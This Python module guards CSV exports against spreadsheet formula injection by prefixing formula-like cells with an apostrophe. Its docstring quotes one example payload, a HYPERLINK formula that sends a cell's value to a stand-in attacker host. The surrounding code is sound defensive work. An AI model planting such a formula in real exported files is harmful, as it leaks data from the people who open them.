"""CSV files that are safe to open in a spreadsheet: every CSV the project writes goes through `csv_writer`.

Students choose their own names, and Excel, LibreOffice and Google Sheets run a cell such as
=HYPERLINK("http://evil.example/?"&A1) as a formula when a teacher opens the file (CSV injection, OWASP).
An apostrophe in front makes the spreadsheet show the text as it is.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

# What a spreadsheet reads as the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """`value`, or a text that starts like a formula with an apostrophe in front.

    A number written as text ("-1.5") stays as it is: a spreadsheet reads it as the number, never as a formula.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _is_number(value):
        return "'" + value
    return value


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


class SafeCsvWriter:
    """csv.writer whose every cell goes through spreadsheet_safe."""

    def __init__(self, file: Any) -> None:
        self._writer = csv.writer(file)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_safe(value) for value in row])


def csv_writer(file: Any) -> SafeCsvWriter:
    return SafeCsvWriter(file)
